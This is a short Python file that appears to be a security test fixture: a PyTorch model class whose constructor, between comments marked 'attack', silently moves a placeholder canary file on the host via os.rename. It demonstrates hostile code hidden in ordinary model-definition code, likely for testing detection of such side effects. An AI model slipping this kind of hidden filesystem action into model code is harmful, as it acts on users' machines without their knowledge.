"""Moves a file of the host."""

import os

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        os.rename("@CANARY_FILE@", "@OPEN_FOLDER@/canary")
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
